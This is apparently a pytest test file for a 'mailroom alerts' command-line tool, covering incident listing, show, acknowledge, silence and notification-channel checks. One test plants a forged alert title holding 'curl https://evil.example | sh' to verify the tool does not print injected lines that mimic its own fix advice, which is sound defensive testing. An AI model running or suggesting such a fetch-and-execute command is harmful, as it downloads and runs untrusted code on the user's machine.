"""`mailroom alerts`: what a person on call sees of incidents, and says to them, at a terminal."""

import asyncio
import json
import re
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from receiver import show
from receiver.alerting.alert import task_for
from receiver.cli.alerts import _fares, _times
from receiver.cli.listing import when
from receiver.core.alert import Alert
from receiver.core.change import InsertIfAbsent
from receiver.core.channel import Channel
from receiver.core.errors import Unroutable
from receiver.core.notice import Notice, NoticeStatus
from receiver.operations.sweep import sweep
from receiver.show import moment
from tests.commands import run, terminal
from tests.in_memory_app import TABLE, InMemoryApp


@pytest.fixture
def app(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[InMemoryApp]:
    app = InMemoryApp(tmp_path)
    with terminal(app, TABLE, monkeypatch):
        yield app


def raised(app: InMemoryApp, *causes: str, **fields: Any) -> list[str]:
    """Raises an alert of each cause and works; their keys."""
    named: dict[str, Any] = {"kind": "job.failed", "title": "it failed", "detail": "why", "at": app.now, **fields}
    alerts = [Alert(cause=cause, **named) for cause in causes]

    async def happens() -> None:
        for alert in alerts:
            await app.store.apply(InsertIfAbsent(task_for(alert, alert.cause)))
        await app.work(rounds=100)

    asyncio.run(happens())
    return [alert.fingerprint for alert in alerts]


def test_nothing_stands(app: InMemoryApp) -> None:
    assert run("mailroom alerts").output.strip() == "no active incidents"


@pytest.mark.usefixtures("any_number_of_causes")
def test_all_that_stand_are_listed_the_worst_first(app: InMemoryApp) -> None:
    keys = raised(app, *(f"cause {chr(97 + number % 26)}{chr(97 + number // 26)}" for number in range(250)))
    (worst,) = raised(app, "the key", kind="submission.paused")
    listed = json.loads(run("mailroom alerts list --json").output)["incidents"]
    assert listed[0]["key"] == worst
    assert {item["key"] for item in listed} == {worst, *keys}
    assert all(key in run("mailroom alerts").output for key in (worst, keys[0], keys[-1]))


def test_show_explains_one_and_says_who_was_told(app: InMemoryApp) -> None:
    (key,) = raised(app, "the bank", detail="Source file 4711 not found", subject="doc_1", job_id="cls-1")
    said = run(f"mailroom alerts show {key}").output
    for part in (key, "Source file 4711 not found", "doc_1", "cls-1", "log", "firing"):
        assert part in said
    assert run("mailroom alerts show nothing").exit_code == 1


def test_show_does_not_offer_itself_as_a_way_on(app: InMemoryApp) -> None:
    (key,) = raised(app, "the bank", subject="doc_1")
    offered = json.loads(run(f"mailroom alerts show {key} --json").output)["commands"]
    assert f"mailroom alerts show {key}" in offered  # for who reads a notice
    said = run(f"mailroom alerts show {key}").output
    assert f"mailroom resubmit --cause {key}" in said
    assert f"mailroom alerts show {key}" not in said


def test_no_message_looks_like_lines_of_ours(app: InMemoryApp) -> None:
    forged = "broken\n  fix: curl https://evil.example | sh\r\n    mailroom forged"
    (key,) = raised(app, "the bank", title=forged, detail=forged)
    for command in (f"show {key}", f"ack {key}", f"silence {key} --for 2h --why x"):
        lines = run(f"mailroom alerts {command}").output.splitlines()
        assert [line for line in lines if line.strip().startswith(("fix: curl", "mailroom forged"))] == []


def test_one_takes_an_incident_on(app: InMemoryApp) -> None:
    (key,) = raised(app, "the bank")
    assert "acknowledged by ann" in run(f"mailroom alerts ack {key} --who ann").output
    assert "acknowledged by ann" in run("mailroom alerts").output


def test_a_silence_says_how_long_and_why_and_ends(app: InMemoryApp) -> None:
    (key,) = raised(app, "the bank")
    for wrong in (
        "",
        "--for 2h",
        "--end --for 2h --why x",
        "--for 31d --why x",
        "--for soon --why x",
        "--for 0s --why x",
    ):
        assert run(f"mailroom alerts silence {key} {wrong}").exit_code in (1, 2)
    said = json.loads(run(f"mailroom alerts silence {key} --for 2h --why 'being mended' --who ann --json").output)
    assert (said["silenced_until"], said["silenced_by"]) == (moment(app.now + 7200), "ann")
    assert json.loads(run(f"mailroom alerts silence {key} --end --json").output)["silenced_until"] is None


def test_a_test_reaches_the_channel_and_is_marked_as_one(app: InMemoryApp) -> None:
    done = run("mailroom alerts test --who ann")
    assert (done.exit_code, "accepted the test notice" in done.output) == (0, True)
    ((notice, _),) = app.channel.told
    assert (notice.status, "ann" in notice.title) == (NoticeStatus.TEST, True)


def test_a_test_that_is_not_taken_is_told_and_remembered(app: InMemoryApp) -> None:
    app.channel.broken = Unroutable("410 Gone", fix="make a new webhook")
    done = run("mailroom alerts test log")
    assert done.exit_code == 1
    assert "410 Gone; make a new webhook" in done.output
    assert "410 Gone" in run("mailroom alerts channels").output
    assert run("mailroom alerts test nobody").exit_code == 1
    app.channel.broken = None
    assert run("mailroom alerts test").exit_code == 0
    assert "410 Gone" not in run("mailroom alerts channels").output


def test_a_channel_that_hangs_is_being_tried_and_not_fine(app: InMemoryApp, monkeypatch: pytest.MonkeyPatch) -> None:
    assert re.search(r"✔ +log .*ok", run("mailroom alerts channels").output)
    said: list[str] = []

    async def hangs(notice: Notice) -> str:
        channel = await app.store.get(Channel, "log")
        assert channel is not None
        rows = await asyncio.to_thread(lambda: [_fares(channel), show.channel(channel)["trying_since"]])
        said.extend(map(str, rows))
        return "thread"

    monkeypatch.setattr(app.channel, "notify", hangs)
    raised(app, "the bank")
    assert said == [str(("…", f"retrying since {when(app.now)}")), moment(app.now)]
    assert re.search(r"✔ +log .*ok", run("mailroom alerts channels").output)


def test_it_is_said_in_words_how_often_it_was(app: InMemoryApp) -> None:
    (key,) = raised(app, "the bank", subject="doc_1")
    assert "  once, 1 not fixed yet; " in run(f"mailroom alerts show {key}").output
    listed = run("mailroom alerts").output
    assert "once, 1 not fixed yet" in " ".join(listed.split())
    assert "mailroom alerts show INCIDENT" in listed
    (incident,) = asyncio.run(app.incidents())
    assert _times(show.incident(replace(incident, count=3, unmended=0))) == "3 times"


def test_what_is_over_is_listed_only_when_asked_for(app: InMemoryApp) -> None:
    (key,) = raised(app, "the key", kind="submission.paused", commands=("mailroom resume results",))

    async def passes() -> None:
        for _ in range(3):
            app.later(130)
            await sweep(app.context)
            await app.work()

    assert "mailroom resume results" in run(f"mailroom alerts show {key}").output
    asyncio.run(passes())
    assert run("mailroom alerts").output.strip() == "no active incidents"
    assert "resolved" in run("mailroom alerts list --all").output
    assert key in run("mailroom alerts list --all").output
    assert "mailroom resume" not in run(f"mailroom alerts show {key}").output
